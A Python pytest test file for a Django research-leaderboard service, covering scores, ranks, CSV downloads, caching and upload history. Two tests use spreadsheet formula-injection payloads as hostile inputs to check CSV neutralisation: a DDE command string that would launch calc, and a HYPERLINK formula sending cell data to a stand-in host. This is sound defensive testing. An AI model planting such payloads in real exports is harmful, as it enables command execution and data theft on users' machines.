"""The leaderboard page: compact intervals, truth columns, competition ranks, charts, CSV download (with the
page's visibility rules), the in-progress notice and the organisers' hint; provenance counts per level; the
"About these numbers" page; the upload history."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from unpooled.service.evaluations.models import Draw, Score
from unpooled.service.submissions.models import Submission

from .test_submission_page import _user, world  # noqa: F401 - the fixture

pytestmark = pytest.mark.django_db


def _publish(*subs):
    Submission.objects.filter(pk__in=[s.pk for s in subs]).update(status=Submission.Status.PUBLISHED)


def test_provenance_is_counted_per_level(world):
    """Each level's new and reused labels are its own draws' (before, every level showed one set of counts for
    the whole submission, e.g. more reused labels than draws)."""
    from unpooled.service.annotation.actions import request_verification
    from unpooled.service.annotation.models import Label, TaskRequest
    from unpooled.service.evaluations.publish import label_provenance, score_corpus

    corpus, a, b = world
    # a asks first (its unlabelled keys get tasks it pays for; labelled ones are reused), then b (joins a's tasks)
    for sub in (a, b):
        res = request_verification(sub, set(Draw.objects.filter(submission=sub).values_list("instance_id", flat=True)))
        assert res.keys
    assert TaskRequest.objects.filter(submission=a, committed_cents__gt=0).exists()
    prov = {lv: label_provenance(corpus, lv) for lv in ("instance", "relation")}
    labelled = set(Label.objects.filter(corpus=corpus).values_list("key", flat=True))
    for level in ("instance", "relation"):
        for sub in (a, b):
            keys = set(Draw.objects.filter(submission=sub, level=level).values_list("key", flat=True))
            if not keys:
                assert sub.pk not in prov[level]
                continue
            mine = set(TaskRequest.objects.filter(submission=sub, committed_cents__gt=0)
                       .values_list("task__key", flat=True))
            want = {"drawn": len(keys), "new": len(keys & mine), "reused": len((keys - mine) & labelled)}
            assert prov[level][sub.pk] == want, (level, sub)
    assert prov["instance"][a.pk] != prov["relation"][a.pk]
    # the stored scores carry them: new + reused never exceed the distinct drawn instances of that level
    for level in ("instance", "relation"):
        for s in score_corpus(corpus, level=level):
            # a submission without draws at a level is still scored (from the others' draws): all counts 0
            pv = prov[level].get(s.submission_id, {"drawn": 0, "new": 0, "reused": 0})
            assert (s.labels_new, s.labels_reused) == (pv["new"], pv["reused"])
            assert s.labels_new + s.labels_reused <= pv["drawn"] and s.details["provenance"] == pv


def _truth(sub, level, p, covered):
    s = Score.objects.filter(submission=sub, level=level).latest("id")
    s.details = {**s.details, "truth": {"p": p, "r": 0.5, "f1": 0.6, "covered": {"p": covered, "r": True,
                                                                                 "f1": None}}}
    s.save(update_fields=["details"])
    Submission.objects.filter(pk=sub.pk).update(description="a method", link="https://example.org/x")


def test_leaderboard_page_rows_truth_charts_and_sorting_markup(world):
    corpus, a, b = world
    _publish(a, b)
    _truth(a, "instance", 0.61, True)
    _truth(b, "instance", 0.99, False)
    html = Client().get(reverse("web:leaderboard", args=[corpus.name])).content.decode()
    assert html.count("<tr data-submission=") == 2 and 'class="sortable"' in html
    # compact intervals: the value, then the interval in small type on its own line
    s = Score.objects.filter(submission=a, level="instance").latest("id")
    assert f'{s.p:.3f}<span class="ci">{s.p_lo:.3f}–{s.p_hi:.3f}</span>' in html
    # truth columns with inside/outside marks
    assert "true P" in html and 'class="in"' in html and 'class="out"' in html
    assert 'id="f1-chart"' in html and 'id="pr-chart"' in html and "truth (gold layer)" in html
    assert "a method" in html and 'href="https://example.org/x"' in html and "/static/web/sort.js" in html
    assert 'id="about-link"' in html and 'id="csv-link"' in html
    # the level tabs, and no command-line hint for visitors
    assert 'class="here" aria-current="page">instance level' in html and "unpooled evaluate" not in html
    assert Client().get(reverse("web:about_numbers")).status_code == 200


def test_competition_ranks():
    import numpy as np

    from unpooled.core.ranking import independent_cov, rank_intervals

    # 1, =2, =2, 4: a shared rank uses up places (dense ranks would print =3 for the 4th row)
    f1, lo, hi = np.array([0.9, 0.7, 0.68, 0.4]), np.array([0.85, 0.6, 0.6, 0.3]), np.array([0.95, 0.8, 0.75, 0.5])
    rk = rank_intervals(f1, independent_cov(lo, hi, 0.9), 0.9)
    assert rk.group.tolist() == [1, 2, 2, 3] and rk.rank.tolist() == [1, 2, 2, 4]


def test_leaderboard_ranks_are_competition_ranks(world):
    corpus, a, b = world
    _publish(a, b)
    from unpooled.service.evaluations.leaderboard import build

    Score.objects.filter(submission=a, level="instance").update(f1=0.9, f1_lo=0.8, f1_hi=0.95)
    Score.objects.filter(submission=b, level="instance").update(f1=0.85, f1_lo=0.7, f1_hi=0.9)
    rows = build(corpus, level="instance")["rows"]
    assert [(r["rank"], r["tied"]) for r in rows] == [(1, True), (1, True)]
    Score.objects.filter(submission=b, level="instance").update(f1=0.5, f1_lo=0.4, f1_hi=0.6)
    rows = build(corpus, level="instance")["rows"]
    assert [(r["rank"], r["tied"]) for r in rows] == [(1, False), (2, False)]


def test_csv_download_follows_the_page_visibility(world):
    corpus, a, b = world
    _publish(a, b)
    Submission.objects.filter(pk=a.pk).update(visibility=Submission.Visibility.PRIVATE, description="=cmd|' /C calc'!A0")
    url = reverse("web:leaderboard_csv", args=[corpus.name]) + "?level=instance"

    def rows(client):
        r = client.get(url)
        assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
        return list(csv.DictReader(io.StringIO(r.content.decode())))

    anon = rows(Client())
    assert [r["team"] for r in anon] == ["team-b"]
    team = Client()
    team.force_login(_user("alice", team=a.team))
    got = {r["team"]: r for r in rows(team)}
    assert set(got) == {"team-a", "team-b"}
    s = Score.objects.filter(submission=a, level="instance").latest("id")
    assert float(got["team-a"]["p"]) == pytest.approx(s.p) and got["team-a"]["visibility"] == "private"
    assert got["team-a"]["description"].startswith("'=")  # never a formula in a spreadsheet
    assert Client().get(reverse("web:leaderboard_csv", args=[corpus.name]) + "?level=bogus").status_code == 404


def test_in_progress_notice_and_organiser_hint(world):
    corpus, a, b = world
    # a published (no entity-level score), b still waiting for labels: visitors are told, without a command to run
    _publish(a)
    Submission.objects.filter(pk=b.pk).update(status=Submission.Status.ANNOTATING)
    html = Client().get(reverse("web:leaderboard", args=[corpus.name]) + "?level=entity").content.decode()
    assert 'id="in-progress"' in html and "waiting for labels" in html and "unpooled evaluate" not in html
    assert "team-b" not in html
    # a private submission in progress is not counted for those who may not see it
    Submission.objects.filter(pk=b.pk).update(visibility=Submission.Visibility.PRIVATE)
    html = Client().get(reverse("web:leaderboard", args=[corpus.name]) + "?level=entity").content.decode()
    assert 'id="in-progress"' not in html
    member = Client()
    member.force_login(_user("bob", team=b.team))
    html = member.get(reverse("web:leaderboard", args=[corpus.name]) + "?level=entity").content.decode()
    assert 'id="in-progress"' in html and "1 submission waiting for labels" in html
    org = Client()
    org.force_login(_user("org", staff=True))
    html = org.get(reverse("web:leaderboard", args=[corpus.name]) + "?level=entity").content.decode()
    assert 'id="organiser-hint"' in html and f"unpooled evaluate --corpus {corpus.name}" in html


def test_upload_history_keeps_rejected_uploads_with_their_diagnostics(world, tmp_path):
    from unpooled.service.submissions import uploads
    from unpooled.service.submissions.models import UploadAttempt

    corpus, a, b = world
    att = UploadAttempt.objects.create(team_name=a.team.name, corpus_name=corpus.name, file_name="bad.jsonl")
    outcome = {"ok": False, "report": {"n_errors": 2, "n_warnings": 0, "errors": [
        {"line": 3, "code": "UP202", "message": "span out of range", "field": "object", "help": "check offsets"},
        {"line": 7, "code": "UP204", "message": "unknown predicate 'P9999'"}], "warnings": []}}
    uploads.finish_attempt(att.pk, outcome)
    att.refresh_from_db()
    assert att.state == UploadAttempt.State.REJECTED and att.outcome["n_errors"] == 2
    # kept past the rate window (pruning deletes accepted attempts after a day, rejected ones after HISTORY_DAYS)
    from datetime import timedelta

    from django.utils import timezone

    UploadAttempt.objects.filter(pk=att.pk).update(created=timezone.now() - timedelta(days=10))
    ok = UploadAttempt.objects.create(team_name=a.team.name, state=UploadAttempt.State.ACCEPTED)
    UploadAttempt.objects.filter(pk=ok.pk).update(created=timezone.now() - timedelta(days=10))
    uploads.prune()
    assert UploadAttempt.objects.filter(pk=att.pk).exists() and not UploadAttempt.objects.filter(pk=ok.pk).exists()
    c = Client()
    c.force_login(_user("alice", team=a.team))
    html = c.get(reverse("web:upload_history")).content.decode()
    assert "bad.jsonl:3: UP202 span out of range [object]" in html and "= help: check offsets" in html
    assert "UP204 unknown predicate" in html
    other = Client()
    other.force_login(_user("bob", team=b.team))
    html = other.get(reverse("web:upload_history")).content.decode()
    assert "bad.jsonl" not in html and 'id="no-uploads"' in html
    assert Client().get(reverse("web:upload_history")).status_code == 302  # sign in first


def test_a_level_the_corpus_does_not_evaluate_says_so(world):
    from unpooled.service.annotation.actions import settings_for

    corpus, a, b = world
    st = settings_for(corpus)
    st.levels = "instance,relation"
    st.save()
    html = Client().get(reverse("web:leaderboard", args=[corpus.name]) + "?level=entity").content.decode()
    assert 'id="level-not-evaluated"' in html and "instance, relation levels" in html
    html = Client().get(reverse("web:leaderboard", args=[corpus.name]) + "?level=relation").content.decode()
    assert 'id="level-not-evaluated"' not in html


def test_readers_not_signed_in_share_one_rendering_until_the_board_changes(world):
    """Issue 22, item 9: a reader not signed in gets the page whole from the cache (1 query: the corpus's board
    fingerprint, found by the corpus's name; whatever else the query string holds); a new score, a submission made private or a change
    of the levels evaluated renders it afresh; a signed-in reader never gets the anonymous page."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from unpooled.service.annotation.actions import settings_for
    from unpooled.service.evaluations.publish import score_corpus

    corpus, a, b = world
    _publish(a, b)
    url = reverse("web:leaderboard", args=[corpus.name])
    Client().get(url)  # the first view makes the corpus's settings row, which the fingerprint covers
    first = Client().get(url).content.decode()
    assert first.count("<tr data-submission=") == 2
    for query in ("", "?utm=1", "?level=instance&x=2"):
        with CaptureQueriesContext(connection) as q:
            again = Client().get(url + query)
        assert again.content.decode() == first and len(q.captured_queries) <= 1, (query, q.captured_queries)
    assert "Content-Security-Policy" in again.headers
    import gzip

    packed = Client().get(url, HTTP_ACCEPT_ENCODING="gzip, deflate")  # as browsers ask: a tenth of the bytes
    assert packed["Content-Encoding"] == "gzip" and "Accept-Encoding" in packed["Vary"]
    assert gzip.decompress(packed.content).decode() == first and len(packed.content) < len(first) / 3
    assert Client().get(reverse("web:leaderboard", args=["no-such-corpus"])).status_code == 404
    assert Client().get(url + "?level=nope").status_code == 404
    # a team member sees their private submission; readers not signed in no longer do, at once
    Submission.objects.filter(pk=b.pk).update(visibility=Submission.Visibility.PRIVATE)
    assert Client().get(url).content.decode().count("<tr data-submission=") == 1
    member = Client()
    member.force_login(_user("bob", team=b.team))
    assert member.get(url).content.decode().count("<tr data-submission=") == 2
    assert Client().get(url).content.decode().count("<tr data-submission=") == 1
    # a new score generation, then a level no longer evaluated: a fresh page each time
    score_corpus(corpus, level="instance")
    Score.objects.filter(pk=Score.objects.filter(submission=a, level="instance").latest("id").pk).update(p=0.1234)
    assert "0.123" in Client().get(url).content.decode()
    st = settings_for(corpus)
    st.levels = "relation"
    st.save()
    assert 'id="level-not-evaluated"' in Client().get(url).content.decode()


def test_scoring_stores_the_covariances_the_board_reads(world):
    """The joint scoring keeps each score's covariances with the others of its scoring (``Score.paired``); the
    page's ranks come from them: their rank intervals, and the hover text of who beats whom."""
    import numpy as np

    from unpooled.service.evaluations import scoring

    corpus, a, b = world
    _publish(a, b)
    got = scoring.score(corpus, level="instance")
    cv = got.covariances
    names = [r.system for r in got.result.rows]
    ia, ib = names.index(next(n for n, s in got.by_name.items() if s.pk == a.pk)), \
        names.index(next(n for n, s in got.by_name.items() if s.pk == b.pk))
    sa = Score.objects.filter(submission=a, level="instance").latest("id")
    assert sa.paired["batch"] == Score.objects.filter(submission=b, level="instance").latest("id").paired["batch"]
    assert np.isclose(sa.paired["var"]["f1"], got.result.scores.f1.se[ia] ** 2)
    assert np.isclose(sa.paired["cov"]["f1"][str(b.pk)], cv.cov["f1"][ia, ib])
    assert "paired" not in sa.details
    # a new scoring: only each submission's newest score keeps its covariances (the history stays small)
    from unpooled.service.evaluations.publish import score_corpus

    score_corpus(corpus, level="instance")
    for sub in (a, b):
        kept = [sc.paired for sc in Score.objects.filter(submission=sub, level="instance").order_by("id")]
        assert len(kept) >= 2 and kept[-1].get("batch") and not any(kept[:-1]), kept
    from unpooled.service.evaluations.leaderboard import build

    # the covariances decide: made equal to the variances (the two estimates move as one), 2 points are certain
    for s, f1 in ((a, 0.52), (b, 0.50)):
        sc = Score.objects.filter(submission=s, level="instance").latest("id")
        other = b if s == a else a
        sc.f1, sc.f1_lo, sc.f1_hi = f1, f1 - 0.05, f1 + 0.05
        sc.paired = {"batch": "x", "var": {"f1": 1e-3}, "cov": {"f1": {str(other.pk): 0.995e-3}}}
        sc.save()
    rows = build(corpus, level="instance")["rows"]
    assert [(r["rank"], r["tied"], r["rank_lo"], r["rank_hi"]) for r in rows] == [(1, False, 1, 1), (2, False, 2, 2)]
    assert rows[0]["better_than"] == [f"team-b/{b.run_id}"]
    html = Client().get(reverse("web:leaderboard", args=[corpus.name]) + "?level=instance").content.decode()
    assert f"better than team-b/{b.run_id} with 90% confidence" in html
    # without them (scores of different scorings): independent, the same two are one group, ranks 1 to 2
    Score.objects.filter(submission=b, level="instance").update(paired={})
    rows = build(corpus, level="instance")["rows"]
    assert [(r["rank"], r["tied"], r["rank_lo"], r["rank_hi"]) for r in rows] == [(1, True, 1, 2), (1, True, 1, 2)]


def test_submission_page_compares_with_the_leader_and_the_previous_run(world):
    """A run's page: the paired difference against the leader (the runner-up when it leads) and its team's previous
    run, from the viewer's leaderboard; a private previous run only for its team."""
    from datetime import timedelta

    corpus, a, b = world
    _publish(a, b)
    Submission.objects.filter(pk=b.pk).update(team=a.team, run_id="run-0", created=a.created - timedelta(days=1))
    for s, f1, other in ((a, 0.52, b), (b, 0.50, a)):
        sc = Score.objects.filter(submission=s, level="instance").latest("id")
        sc.f1, sc.f1_lo, sc.f1_hi = f1, f1 - 0.05, f1 + 0.05
        sc.paired = {"batch": "x", "var": {"f1": 1e-3}, "cov": {"f1": {str(other.pk): 0.995e-3}}}
        sc.save()
    name_a, name_b = f"team-a/{a.run_id}", "team-a/run-0"
    html = Client().get(reverse("web:submission", args=[a.pk]) + "?level=instance").content.decode()
    assert 'data-role="runner-up"' in html and 'data-role="previous run"' in html
    assert f"better than {name_b} with 90% confidence" in html and "<strong>0.020</strong>" in html
    html = Client().get(reverse("web:submission", args=[b.pk]) + "?level=instance").content.decode()
    assert 'data-role="leader"' in html and f"{name_a} is better with 90% confidence" in html
    assert 'data-role="previous run"' not in html  # nothing earlier
    # the previous run made private: the public page of a compares with nobody; its team still sees it
    Submission.objects.filter(pk=b.pk).update(visibility=Submission.Visibility.PRIVATE)
    html = Client().get(reverse("web:submission", args=[a.pk]) + "?level=instance").content.decode()
    assert 'id="compare"' not in html and "run-0" not in html
    team = Client()
    team.force_login(_user("carol", team=a.team))
    html = team.get(reverse("web:submission", args=[a.pk]) + "?level=instance").content.decode()
    assert 'data-role="previous run"' in html and f"better than {name_b} with 90% confidence" in html


def test_a_label_batch_warms_the_public_boards_and_keeps_their_critical_values(world, monkeypatch):
    """The worker that re-scored builds every level's public board into the cache (the first reader finds it), and
    the ranking's critical values are kept by the covariances' digest: a board of the same systems built again (an
    organiser's scope, a rebuilt entry) makes no Gaussian draws."""
    from django.core.cache import cache

    from unpooled.core import ranking
    from unpooled.service.evaluations import leaderboard as lb
    from unpooled.service.evaluations.tasks import labels_arrived

    corpus, a, b = world
    _publish(a, b)
    cache.clear()
    assert labels_arrived.call(corpus.pk)["rescored"]
    for level in ("instance", "relation"):
        board = cache.get(lb.cache_key(corpus, level))
        assert board is not None and board["rows"], level
    pairs = cache.get(lb.cache_key(corpus, "instance"))["pairs"]

    def no_draws(*args, **kwargs):
        raise AssertionError("the critical value was computed again")

    monkeypatch.setattr(ranking.np.linalg, "eigh", no_draws)
    assert lb.build(corpus, level="instance")["pairs"] == pairs
    cache.clear()  # nothing kept: the draws are made
    with pytest.raises(AssertionError, match="computed again"):
        lb.build(corpus, level="instance")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
def test_every_csv_download_neutralises_formulas(world, start):
    """Every text cell of every CSV download goes through one writer (web/csv_download.py): a team's strings, and
    the service's own (estimator, details), never start a formula; numbers stay numbers."""
    corpus, a, b = world
    _publish(a, b)
    evil = start + "HYPERLINK(\"http://x/?\"&A1)"
    Submission.objects.filter(pk=a.pk).update(run_id=evil, description=evil, link=evil)
    Score.objects.filter(submission=a).update(estimator=evil, recall_protocol=start + "x", p=-0.0)
    alice = Client()
    alice.force_login(_user("alice", team=a.team))
    board = alice.get(reverse("web:leaderboard_csv", args=[corpus.name]) + "?level=instance")
    scores = alice.get(reverse("web:submission_scores", args=[a.pk, "csv"]))
    for resp in (board, scores):
        assert resp.status_code == 200
        rows = list(csv.reader(io.StringIO(resp.content.decode())))
        cells = [c for row in rows[1:] for c in row]
        assert evil in [c[1:] for c in cells if c.startswith("'")]
        assert not any(c[:1] in ("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff20") for c in cells), rows
        assert not any(c[:1] == "-" and not _number(c) for c in cells), rows


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
